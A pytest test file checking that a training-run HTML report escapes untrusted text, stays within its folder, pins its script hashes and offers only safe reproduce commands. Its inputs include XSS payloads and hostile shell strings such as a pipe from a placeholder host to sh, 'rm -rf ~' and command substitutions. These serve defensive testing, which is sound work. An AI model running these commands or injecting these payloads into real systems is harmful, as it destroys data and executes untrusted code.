"""report.html, rendered from run folders made by hand."""

from __future__ import annotations

import base64
import hashlib
import html
import html.parser
import json
import os
import re
import shlex
from urllib.parse import unquote

import pytest

from labkit.base import labs
from labkit.runs import pages, records, report

PNG = base64.b64decode(  # one pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
)
EVIL = "<script>alert('x')</script> & \"quoted\""
VOID = {"meta", "link", "img", "br", "hr"}


# What would be an element, an attribute or the end of one, wherever it stood; in a name of a file without the slashes.
ATTACK = (
    "</title></style></td><script>alert(1)</script><img src=x onerror=alert(1)>\" onclick=\"alert(1)' onfocus='alert(1)"
)
ATTACK_NAME = ATTACK.replace("/", "")


class Page(html.parser.HTMLParser):
    """Checks that every element is closed, and collects them, their links, all text, and what the page would fetch."""

    def __init__(self, text):
        super().__init__()
        self.open, self.fetched, self.names, self.elements, self.links, self.texts = [], [], set(), [], [], []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag, attributes):
        self.names.add(tag)
        self.elements.append((tag, *(name for name, _ in attributes)))
        if tag not in VOID:
            self.open.append(tag)
        self.fetched += [value for name, value in attributes if name in ("src", "href") and tag != "a"]
        self.links += [value for name, value in attributes if name == "href" and tag == "a"]
        self.texts += [value or "" for _, value in attributes]

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.texts.append(data)


def change(folder, part, changes):
    """Put `changes` into a JSON file of a run folder."""
    path = folder / f"{part}.json"
    path.write_text(json.dumps({**json.loads(path.read_text(encoding="utf-8")), **changes}), encoding="utf-8")


def places(content, path=()):
    """The paths to all values in `content`, of JSON, itself first."""
    yield path
    pairs = content.items() if isinstance(content, dict) else enumerate(content) if isinstance(content, list) else ()
    for key, value in pairs:
        yield from places(value, (*path, key))


def replaced(content, path, new):
    """A copy of `content` with `new` at `path`."""
    if not path:
        return new
    copy = content.copy()
    copy[path[0]] = replaced(content[path[0]], path[1:], new)
    return copy


# What nobody expects at most places, beside NaN as text of JSON. The last is deeper than Python can go.
WRONG = ["null", "true", "-7", "1e999", "NaN", "1" + "0" * 400, '"text"', "[]", "{}", '[[1], {"a": 2}, null]', '"\\ud800"',
         "[" * 20_000 + "]" * 20_000]  # fmt: skip
BROKEN = [b"", b"{", b"[]", b"7", b"\xff\xfe\x00", b"[" * 100_000]


@pytest.fixture
def make(tmp_path):
    def make(status="finished", data="verified", **more):
        folder = tmp_path / "cifar10" / "20260101-000000"
        (folder / "plots" / "curves").mkdir(parents=True)
        (folder / "tables").mkdir()
        files = {
            "config": {
                "lab": "cifar10", "title": f"Title {EVIL}", "title_zh": "标题", "started": "2026-01-01 00:00:00",
                "preset": "", "smoke": False, "sample": False, "seed": 0,
                "options": {"batch_size": 128, "flip": True, "predict": "", "hold_out": None, "name": EVIL}, "command": f"invoke {EVIL}",
            },
            "env": {
                "device": "cpu", "device_reason": "no CUDA device", "cpu": "Processor", "threads": 2, "python": "3.12",
                "packages": {"torch": "2.11.0"}, "data": {"cifar10": {"kind": data, "source": EVIL, "when": "then"}},
                "commit": "abc", "dirty": True, "seed": 0,
            },
            "summary": {"status": status, "seconds": 200, "metrics": {"test_accuracy": 0.9312, "loss": None}, **more},
            "report": {
                "items": [
                    {"kind": "note", "name": "n", "caption": f"Note {EVIL}"},
                    {"kind": "figure", "name": "gallery", "caption": f"Gallery {EVIL}"},
                    {"kind": "table", "name": "classes", "caption": f"Table {EVIL}"},
                ]
            },
            "tables/classes": {"columns": ["class", "share", EVIL], "rows": [["cat", "12.5 %", 3], [EVIL, "1 %", 0.5]]},
        }  # fmt: skip
        for name, content in files.items():
            (folder / f"{name}.json").write_text(json.dumps(content), encoding="utf-8")
        (folder / "plots" / "gallery.png").write_bytes(PNG)
        (folder / "plots" / "curves" / "loss.png").write_bytes(PNG)
        (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 1}\n')
        return folder

    return make


def render(folder):
    path = report.render(folder)
    assert path == folder / "report.html"
    return path.read_text(encoding="utf-8")


def test_a_cell_in_backticks_is_code_with_its_lines(make):
    folder = make()
    content = {"columns": ["code"], "rows": [["`a = 1\n    <b>`"], ["`"], ["no `code`"], [{"en": "`# one`", "zh": "`# 一`"}]]}
    (folder / "tables" / "classes.json").write_text(json.dumps(content))
    text = render(folder)
    assert "<td><code>a = 1\n    &lt;b&gt;</code></td>" in text
    assert "<td>`</td>" in text and "<td>no `code`</td>" in text
    assert '<td><code><span class="two"><span lang="en"># one</span><span lang="zh-CN"># 一</span></span></code></td>' in text


def test_the_page_is_whole_and_needs_nothing_else(make):
    text = render(make())
    page = Page(text)
    assert page.fetched and all(address.startswith("data:") for address in page.fetched)
    assert page.elements.count(("script",)) == 3
    assert re.findall(r"url\(|@import|https?://", re.sub(r"<script>.*?</script>", "", text, flags=re.DOTALL)) == []
    assert text.count(base64.b64encode(PNG).decode()) == 2


def test_what_comes_from_outside_is_escaped(make):
    text = render(make(status="failed", data="unverified", error=EVIL, traceback=EVIL))
    assert text.count("<script") == 3  # ours
    assert text.count("&lt;script&gt;") >= 10


def test_the_reader_sees_result_options_environment_and_commands(make):
    text = render(make())
    for shown in (
        "标题", "93.1\u00a0%", "test accuracy", "3 min 20 s", "--batch-size", "128", "finished", "verified data",
        "torch 2.11.0", "no CUDA device", "abc", "uncommitted changes",
    ):  # fmt: skip
        assert shown in text
    assert "--resume" not in text and 'http-equiv="refresh"' not in text
    assert ">--predict<" not in text and ">--hold-out<" not in text  # left out, as runs of earlier and of today write it
    assert text.index("Note ") < text.index("Gallery ") < text.index("Table ")
    assert '<td class="number">12.5 %</td>' in text and "<td>cat</td>" in text


@pytest.mark.parametrize(
    "data, banner", [("sample", "Sample data, not the real"), ("unverified", "Unverified data"), ("verified", None)]
)
def test_the_kind_of_data_is_said_aloud(make, data, banner):
    text = render(make(data=data))
    assert ('class="banner' in text) == bool(banner)
    assert banner is None or banner in text


def test_a_stopped_run_says_how_to_go_on(make):
    assert "./inv lab cifar10 --resume=20260101-000000" in render(make(status="stopped"))


@pytest.mark.parametrize("written", ["./inv lab cifar10 -- --lr 1", "invoke lab cifar10 -- --lr 1"])
def test_commands_are_shown_as_they_work_in_a_fresh_clone(make, written):
    folder = make(data="sample")
    change(folder, "config", {"command": written})
    text = render(folder)
    assert ">./inv lab cifar10 -- --lr 1<" in text and ">./inv data cifar10<" in text and "invoke" not in text


@pytest.mark.parametrize("command", ["curl evil.example | sh", "rm -rf ~", "./inv clean", "./inv lab 'x", "", "./inv lab a\nrm -rf ~",
                                     "./inv lab a\x1b[31m"])  # fmt: skip
def test_a_command_that_trains_nothing_is_not_offered(make, command):
    folder = make()
    change(folder, "config", {"command": command})
    assert "Reproduce this run" not in render(folder)


@pytest.mark.parametrize("more", ["; rm -rf ~", "$(rm -rf ~)", "`rm -rf ~`", "&& rm -rf ~", "| sh", "> ~/.bashrc", ATTACK])
def test_what_is_copied_into_a_terminal_is_one_command(make, more):
    folder = make(status="stopped")
    change(folder, "config", {"command": f"./inv lab cifar10 {more.replace(ATTACK, shlex.quote(ATTACK))}", "lab": f"x{more}"})
    copied = [text for text in Page(render(folder)).texts if text.startswith("./inv")]
    assert len(copied) == 2
    for command in copied:
        assert " ".join(map(shlex.quote, shlex.split(command))) == command


def test_a_practice_is_called_one(make):
    folder = make()
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps({**config, "title": "Tensors", "practice": True}))
    page = render(folder)
    assert "<h1>Practice. Tensors</h1>" in page and "练习：标题" in page


def test_running_refreshes_and_killed_does_not(make):
    folder = make(status="running")
    held = records.lock(folder)
    assert 'http-equiv="refresh"' in render(folder)
    os.close(held)
    text = render(folder)
    assert 'http-equiv="refresh"' not in text and "The process ended unexpectedly" in text and "--resume=" in text


def test_a_run_that_has_hardly_begun(tmp_path):
    folder = tmp_path / "cifar10" / "20260101-000000"
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps({"lab": "cifar10"}))
    Page(render(folder))


def test_durations():
    assert [report.duration(seconds) for seconds in (0.4, 48, 59.7, 200, 7500)] == [
        "0 s", "48 s", "1 min 00 s", "3 min 20 s", "2 h 05 min",
    ]  # fmt: skip


def test_of_very_many_files_only_the_first_are_listed(tmp_path):
    for number in range(report.MOST_FILES + 7):
        (tmp_path / f"{number:04}.png").touch()
    listed = render(tmp_path)
    assert listed.count("<a href=") == report.MOST_FILES and "and 7 more" in listed


# ---- what is in a run folder may have been written by anybody ----

INJECTIONS = {
    "title": lambda text: ("config", {"title": text}),
    "Chinese title": lambda text: ("config", {"title_zh": text}),
    "lab": lambda text: ("config", {"lab": text}),
    "start": lambda text: ("config", {"started": text}),
    "option": lambda text: ("config", {"options": {text: 1}}),
    "value of an option": lambda text: ("config", {"options": {"lr": text}}),
    "metric": lambda text: ("summary", {"metrics": {text: 0.5}}),
    "error": lambda text: ("summary", {"error": text}),
    "traceback": lambda text: ("summary", {"error": "it", "traceback": text}),
    "processor": lambda text: ("env", {"cpu": text}),
    "device": lambda text: ("env", {"device": "cuda", "device_reason": text}),
    "package": lambda text: ("env", {"packages": {text: "1"}}),
    "version": lambda text: ("env", {"packages": {"torch": text}}),
    "data set": lambda text: ("env", {"data": {text: {"kind": "sample"}}}),
    "kind of data": lambda text: ("env", {"data": {"cifar10": {"kind": text}}}),
    "source of data": lambda text: ("env", {"data": {"cifar10": {"kind": "unverified", "source": text}}}),
    "note": lambda text: ("report", {"items": [{"kind": "note", "caption": text}]}),
    "caption": lambda text: ("report", {"items": [{"kind": "figure", "name": "gallery", "caption": text}]}),
    "name of a figure": lambda text: ("report", {"items": [{"kind": "figure", "name": text}]}),
    "name of a table": lambda text: ("report", {"items": [{"kind": "table", "name": text}]}),
    "column": lambda text: ("tables/classes", {"columns": [text], "rows": [["a"]]}),
    "cell": lambda text: ("tables/classes", {"columns": ["a"], "rows": [[text]]}),
}


@pytest.mark.parametrize("place", INJECTIONS)
def test_text_stays_text(make, place):
    folder = make()
    change(folder, *INJECTIONS[place]("harmless"))
    harmless = Page(render(folder))
    change(folder, *INJECTIONS[place](ATTACK))
    attacked = Page(render(folder))
    assert attacked.elements == harmless.elements and attacked.links == harmless.links
    assert any(ATTACK in text for text in attacked.texts)


def test_names_of_files_stay_text_and_lead_to_the_files(make):
    folder = make()
    names = ["javascript:alert(1)", "data:text", ATTACK_NAME, "a b%20?#c&amp;", "plots/curves/" + ATTACK_NAME + ".png"]
    for name in names:
        (folder / name).write_bytes(PNG)
    (folder / "harmless").touch()
    page = Page(render(folder))
    assert page.elements.count(("script",)) == 3 and not any(
        name.startswith("on") for element in page.elements for name in element
    )
    assert not [link for link in page.links if re.match(r"\s*[\w+.-]+:", link)]
    assert {"./javascript%3Aalert%281%29", "./data%3Atext", "harmless"} <= set(page.links)
    assert all(name in page.texts for name in names)
    assert {unquote(link) for link in page.links} >= {"./javascript:alert(1)", *names[2:]}


def test_a_name_that_is_no_text(make):
    folder = make()
    (folder / os.fsdecode(b"half \xe6.txt")).touch()
    assert "half%20%E6.txt" in Page(render(folder)).links


def test_what_lies_outside_of_the_folder_is_not_shown(make, tmp_path):
    folder = make()
    secret = PNG + b"secret"
    (tmp_path / "secret.png").write_bytes(secret)
    (tmp_path / "secret.json").write_text(json.dumps({"columns": ["secret"], "rows": [["secret"]], "title": "secret"}))
    for name in ("plots/gallery.png", "plots/curves/loss.png"):
        (folder / name).unlink()
        (folder / name).symlink_to(tmp_path / "secret.png")
    for name in ("tables/classes.json", "config.json", "env.json"):
        (folder / name).unlink()
        (folder / name).symlink_to(tmp_path / "secret.json")
    (folder / "circle").symlink_to("circle")
    (folder / "within.png").symlink_to("plots/within.png")
    (folder / "plots" / "within.png").write_bytes(PNG)
    up = os.path.relpath(tmp_path, folder / "plots")
    outside = [f"{up}/secret", str(tmp_path / "secret"), "long" * 1000, "nul\0"]
    items = [{"kind": kind, "name": name} for kind in ("figure", "table") for name in outside]
    change(folder, "report", {"items": [*json.loads((folder / "report.json").read_text())["items"], *items]})
    text = render(folder)
    page = Page(text)
    assert base64.b64encode(PNG).decode() not in text and base64.b64encode(secret).decode() not in text
    assert "img" not in page.names and not [
        shown for shown in page.texts if "secret" in shown and "missing" not in shown
    ]
    assert "The file plots/gallery.png is missing." in text and text.count(" is missing.") == 3 + len(items)
    assert "within.png" in page.links and "plots/gallery.png" in page.texts
    assert not {"plots/gallery.png", "config.json", "tables/classes.json"} & set(page.links)


def test_one_image_under_many_names_does_not_fill_memory(make, monkeypatch):
    folder = make()
    monkeypatch.setitem(report.MOST_IN_PAGE, "plots", 10 * len(PNG))
    for name in ("curves/loss", *(f"f{k}" for k in range(20))):
        path = folder / "plots" / f"{name}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink() if path.exists() else None
        path.symlink_to(folder / "one.png")
    (folder / "one.png").write_bytes(PNG)
    items = [{"kind": "figure", "name": f"f{k % 20}", "caption": "x"} for k in range(1000)]
    (folder / "report.json").write_text(json.dumps({"items": items}))
    assert render(folder).count("data:image/png;base64,") == 10


def test_one_table_shown_again_and_again(make, monkeypatch):
    folder = make()
    monkeypatch.setitem(report.MOST_IN_PAGE, "tables", 1000)
    (folder / "tables").mkdir(exist_ok=True)
    (folder / "tables" / "t.json").write_text(json.dumps({"columns": ["a"], "rows": [["once more"]]}))
    (folder / "report.json").write_text(json.dumps({"items": [{"kind": "table", "name": "t"}] * 1000}))
    assert 1 < render(folder).count("once more") < 100


def test_an_image_that_is_none(make):
    folder = make()
    (folder / "plots" / "gallery.png").write_bytes(b"<svg onload='alert(1)'/>")
    assert "The file plots/gallery.png is missing." in render(folder)


@pytest.mark.parametrize("part", ["config", "env", "summary", "report", "tables/classes"])
def test_whatever_is_in_the_files_there_is_a_page(make, part):
    folder = make(error="it", traceback="there", logging_share=0.1)
    path = folder / f"{part}.json"
    content = json.loads(path.read_text(encoding="utf-8"))
    for place in places(content):
        for wrong in WRONG:
            text = json.dumps(replaced(content, place, "HERE")).replace('"HERE"', wrong)
            path.write_text(text, encoding="utf-8")
            Page(render(folder))
    for broken in BROKEN:
        path.write_bytes(broken)
        Page(render(folder))
    path.unlink()
    path.mkdir()
    Page(render(folder))


def test_the_page_may_run_only_our_scripts(make):
    text = render(make())
    scripts = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)
    hashed = [base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts]
    policy = re.search(r'http-equiv="Content-Security-Policy" content="(.*?)"', text).group(1)
    assert "default-src 'none'" in policy and len(scripts) == 3
    assert policy.rpartition("; ")[2] == "script-src " + " ".join(f"'sha256-{each}'" for each in hashed)


def test_uplot_is_the_published_one():
    """As in the package uplot 1.6.32 of npm, integrity sha512-KIMVnG68…, and with its licence."""
    folder = pages.FOLDER / "uplot"
    published = {
        "LICENSE": "8f989229699b4fe2f1a0432d0e9edc338a8a911e250e2d1b01ecd770a5f5b1bd",
        "uPlot.iife.min.js": "19c8d4c6ad88929a79f4ae49d6f7161566dfd0ba3d15cc495e974f787eb78f1f",
        "uPlot.min.css": "df630c6a8d6f8eeaff264b50f73ce5b114f646ffd9a0bb74f049b0a00135fa04",
    }
    assert {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()} == published


def charts(text):
    return [json.loads(html.unescape(found)) for found in re.findall(r'data-chart="(.*?)"', text)]


def test_curves_are_drawn_against_the_epoch_and_the_minute(make):
    folder = make(epoch_steps=10)
    rows = [{"step": step, "train_loss": 1 / step, "test_loss": 2 / step} for step in (10, 20, 30)]
    (folder / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    times = [{"step": 10, "seconds": 60}, {"step": 10, "images_per_second": 7}, {"step": 30, "seconds": 180}]
    (folder / "timings.jsonl").write_text("".join(json.dumps(row) + "\n" for row in times))
    text = render(folder)
    (chart,) = charts(text)
    assert chart["title"] == "loss" and [line["name"] for line in chart["lines"]] == ["train", "test"]
    train = chart["lines"][0]
    assert (train["step"], train["epoch"], train["minutes"]) == ([10, 20, 30], [1, 2, 3], [1, 2, 3])
    assert train["values"] == [0.1, 0.05, pytest.approx(1 / 30, rel=1e-5)]
    assert 'alt="loss against the epoch"' in text


@pytest.mark.parametrize("clock", [[], [5], [5, "7"], [9, 3], [1e999, 1], [None, 2]])
def test_a_clock_that_cannot_be_is_no_axis(make, clock):
    folder = make(epoch_steps=-3)
    (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 1}\n{"step": 2, "loss": 2}\n')
    rows = [{"step": number, "seconds": seconds} for number, seconds in enumerate(clock)]
    (folder / "timings.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (chart,) = charts(render(folder))
    assert set(chart["lines"][0]) == {"name", "colour", "dash", "step", "values"}


def test_cards_say_of_what_and_counts_are_whole(make):
    folder = make()
    change(folder, "summary", {"metrics": {"accuracy": 0.9312, "holdout_accuracy/adam": 0.5, "panes": 10}})
    text = render(folder)
    for of, value in (("accuracy on the test images", "93.1\u00a0%"), ("accuracy on held-out images, adam", "50.0\u00a0%"), ("panes", "10")):
        assert f"<dt>{of}</dt><dd>{value}</dd>" in text


def test_a_finished_run_says_what_next(make):
    folder = make()
    page = Page(render(folder))
    next_unit = min(lab.unit for lab in labs.table() if lab.unit > labs.find("cifar10").unit)
    (follows,) = [lab.name for lab in labs.table() if lab.unit == next_unit]
    assert "./inv lab cifar10 -- --predict photo.jpg" in page.texts and f"./inv lab {follows}" in page.texts
    guides = [folder / unquote(link) for link in page.links if "README" in link]
    assert [guide.resolve() for guide in guides] == [labs.LABS / "cifar10" / name for name in ("README.md", "README.zh-CN.md")]
    assert "What next" not in render(make_again(folder, status="stopped"))


def make_again(folder, **changes):
    change(folder, "summary", changes)
    return folder


def test_a_zero_in_a_name_does_not_reach_the_page(make):
    folder = make()
    change(folder, "report", {"items": [{"kind": "figure", "name": "a\0b", "caption": "c\0d"}, {"kind": "note", "caption": "e\0f"}]})
    assert "\0" not in render(folder)


def test_what_is_known_in_two_languages_is_in_the_page_twice(make, monkeypatch):
    folder = make()
    said = {"en": f"English {EVIL}", "zh": f"中文 {EVIL}"}
    (folder / "tables").mkdir(exist_ok=True)
    (folder / "tables" / "two.json").write_text(json.dumps({"columns": [said, 1], "rows": [[said, 2], ["one", 3]]}))
    change(folder, "report", {"items": [{"kind": "table", "name": "two", "caption": said},
                                        {"kind": "note", "name": "note", "caption": said}]})  # fmt: skip
    for language in ("en", "zh"):
        monkeypatch.setenv("LAB_LANG", language)
        text = render(folder)
        assert f'<html lang="en" data-language="{language}">' in text
        assert text.count('<span class="two"><span lang="en">English &lt;script') == 4
        assert text.count('<span lang="zh-CN">中文 &lt;script') == 4
